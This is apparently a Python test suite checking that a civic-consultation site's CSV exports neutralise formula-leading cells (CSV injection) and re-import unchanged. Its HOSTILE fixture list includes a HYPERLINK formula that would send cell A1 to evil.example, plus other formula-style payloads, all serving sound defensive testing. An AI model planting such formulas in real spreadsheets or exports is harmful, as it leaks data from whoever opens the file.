"""Every CSV the site sends is safe to open in a spreadsheet: no cell begins with =, +, -, @, a tab
or a carriage return (OWASP's CSV injection advice), and our importer reads an export back as written.

The routes are not listed by hand: every GET route in the app's table is requested on a site whose
texts all begin like formulas, and every answer that is text/csv is checked. A new CSV route is
covered by this test the day it is added, and fails it until its hostile data reaches it."""

from __future__ import annotations

import csv
import io

from sqlmodel import Session, select
from starlette.routing import Route
from starlette.testclient import TestClient

from bills import manual
from bills.models import Bill
from core import accounts
from core.settings import Settings
from core.spreadsheet import FORMULA_STARTS, defuse, restore
from deliberation import discussions
from deliberation import services as conversations
from feedback import analyses, importing, responses, review
from feedback.models import AnalysisTheme, Comment
from participation import proposals
from participation.models import Consultation
from tests.deliberation.budget_factories import make_budget
from tests.helpers import make_member, post, sign_in
from tests.participation.factories import consultation
from thinktank.app import all_routes

LAW = """第一條 本法依長期照顧服務法訂定之。

第二條 喘息服務每年以二十一日為上限。

第三條 照顧服務人員薪資不得低於基準。
"""
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"喘息服務")',
    "+喘息服務不夠用 照顧服務",
    "-1+1 照顧服務員薪資太低",
    "@SUM(1) 薪資基準要提高",
    "'=已經加了引號的喘息服務",
]
# CSV routes that carry no text anyone typed: indicator names, months and numbers we compute.
NO_FREE_TEXT = {
    "participation:indicators_csv",
    "participation:indicators_agency_csv",
    "participation:places_csv",  # place names and counts
    "bills:places_csv",
}


def _cells(body: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.lstrip("\ufeff"))) for cell in row]


def _hostile_comments(client: TestClient, db: Session) -> tuple[Consultation, Bill, accounts.Member]:
    """A consultation and a bill (its title like a formula) with comments that all begin like formulas."""
    c = consultation(db, slug="csv", agency_slug="csv", text=LAW)
    bill = manual.create_bill(db, manual.ManualBill(title="=1+1 長期照顧服務法修正草案", text=LAW, on="2026-10-01"))
    citizen = make_member(db)
    sign_in(client, citizen)
    for base in (f"/c/{c.slug}", f"/bills/{bill.id}"):
        for text in HOSTILE:
            form = {"article": "2", "stance": "amend", "text": text, "amendment": "=第二條改為三十日"}
            assert post(client, f"{base}/comments", form, token_from=base).status_code == 303
    return c, bill, citizen


def _hostile_site(client: TestClient, db: Session, settings: Settings) -> dict[str, str]:
    """The hostile comments, and responses and analyses whose themes begin like formulas too; the
    values for each route's path parameters."""
    c, bill, citizen = _hostile_comments(client, db)
    official = db.exec(select(accounts.Member).where(accounts.Member.email == "official@csv.example.tw")).one()
    staff = make_member(db, "staff@example.tw", role="legislative_staff", name="法案助理")
    for kind, subject_id, manager, base in (
        ("consultation", c.id, official, f"/c/{c.slug}"),
        ("bill", bill.id, staff, f"/bills/{bill.id}"),
    ):
        assert subject_id is not None
        sign_in(client, manager)
        report = f"{base}/analysis"
        assert post(client, f"{report}/run", {"k": "2"}, token_from=report).status_code == 303
        analysis = analyses.analysis_for(db, kind, subject_id)
        assert analysis is not None and analysis.status == "done"
        theme = db.exec(select(AnalysisTheme).where(AnalysisTheme.analysis_id == analysis.id)).first()
        assert theme is not None
        review.rename_theme(db, analysis, manager, theme, "=主題 喘息服務")
        db.commit()
        assert post(client, f"{report}/publish", {}, token_from=report).status_code == 303, "analysis"
        response = responses.response_for(db, kind, subject_id, create=True)
        assert response is not None
        responses.add_theme(db, response, "=喘息服務天數", "adopted", "-將提高至三十日", "+第二條修正")
        responses.publish(db, response, manager)
    # The lists' own CSVs: a consultation, a proposal, a conversation and a thread named like formulas.
    c.title = "=長照草案"
    db.add(c)
    db.commit()
    agency = accounts.get_agency(db, "csv")
    proposal = proposals.submit(db, citizen, agency, "=設立照顧者津貼", "每月五千元。")
    proposals.review(db, proposal, settings, True, "")
    talk = conversations.create_conversation(db, official, "+長照財源", "", ["-先公開試算", "@再決定稅收"], agency)
    talk.slug = "csv"
    db.add(talk)
    db.commit()
    discussions.start(db, citizen, "=喘息服務夠不夠", "大家的經驗？")
    budget = make_budget(db, official, projects=[(text, 30) for text in HOSTILE])  # its projects named like formulas
    budget.slug = "csv"
    db.add(budget)
    db.commit()
    comment = db.exec(select(Comment)).first()
    assert comment is not None
    sign_in(client, make_member(db, "admin@example.tw", role="admin"))
    return {
        "slug": "csv",
        "bill_id": str(bill.id),
        "member_id": str(citizen.id),
        "comment_id": str(comment.id),
        "job_id": "1",
        "proposal_id": str(proposal.id),
        "discussion_id": "1",
        "post_id": "1",
        "token": "x",
        "code": "x",
    }


def test_no_csv_download_has_a_cell_a_spreadsheet_would_run(
    client: TestClient, db: Session, settings: Settings
) -> None:
    values = _hostile_site(client, db, settings)
    csv_routes: set[str] = set()
    for route in all_routes():
        if not isinstance(route, Route) or "GET" not in (route.methods or ()):
            continue
        missing = set(route.param_convertors) - set(values)
        assert not missing, f"{route.path}: give this test a value for {missing}"
        path = route.url_path_for(route.name, **{name: values[name] for name in route.param_convertors})
        answer = client.get(path)
        is_csv = answer.headers.get("content-type", "").startswith("text/csv")
        if route.path.endswith(".csv"):
            assert answer.status_code == 200 and is_csv, f"{path} answered {answer.status_code}: seed what it needs"
        if not is_csv:
            continue
        csv_routes.add(route.name)
        cells = _cells(answer.text)
        assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)], f"{path} sends a formula"
        if route.name not in NO_FREE_TEXT:  # the hostile texts must have reached it, or it proves nothing
            assert any(cell.startswith("'") and restore(cell) != cell for cell in cells), f"{path}: no hostile text"
    assert csv_routes >= NO_FREE_TEXT  # the exemptions are CSV routes still


def test_an_exported_file_imports_as_it_was_written(client: TestClient, db: Session) -> None:
    _hostile_comments(client, db)
    exported = client.get("/c/csv/comments.csv").content
    rows = importing.read_rows(importing.decode(exported), importing.Columns(text="text", id="id"))
    assert sorted(row["text"] for _line, row in rows) == sorted(HOSTILE)
    assert {row["amendment"] for _line, row in rows} == {"=第二條改為三十日"}


def test_defusing_is_undone_exactly_by_restoring() -> None:
    for text in [*HOSTILE, "", "喘息服務", "'引號開頭", "''=兩個引號", "\t=", "\r\n", "3", "'"]:
        assert restore(defuse(text)) == text
        assert not str(defuse(text)).startswith(FORMULA_STARTS)
    assert defuse(-3) == -3 and defuse(None) is None  # numbers we write stay numbers
